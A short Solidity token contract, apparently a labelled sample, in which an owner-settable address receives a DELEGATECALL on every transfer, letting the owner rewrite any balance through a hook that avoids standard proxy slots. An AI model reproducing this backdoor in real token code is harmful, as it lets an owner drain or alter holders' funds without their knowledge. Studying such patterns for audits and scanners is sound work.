// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// DelegateHookToken runs, on every transfer, code at an address its owner
// sets with an innocuous-looking configure(address): a DELEGATECALL, so the
// hook could rewrite any balance. Not a proxy: no standard slot is used.
contract DelegateHookToken {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply = 1e27;
    address public owner;
    address private logic;

    constructor() {
        owner = msg.sender;
        balanceOf[msg.sender] = totalSupply;
    }

    function configure(address l) external {
        require(msg.sender == owner, "not owner");
        logic = l;
    }

    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address to, uint256 v) external returns (bool) { _transfer(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        _transfer(f, to, v);
        return true;
    }

    function _transfer(address from, address to, uint256 v) internal {
        balanceOf[from] -= v;
        balanceOf[to] += v;
        if (logic != address(0)) {
            (bool ok,) = logic.delegatecall(abi.encodeWithSignature("afterTransfer(address,address,uint256)", from, to, v));
            require(ok, "hook failed");
        }
    }
}
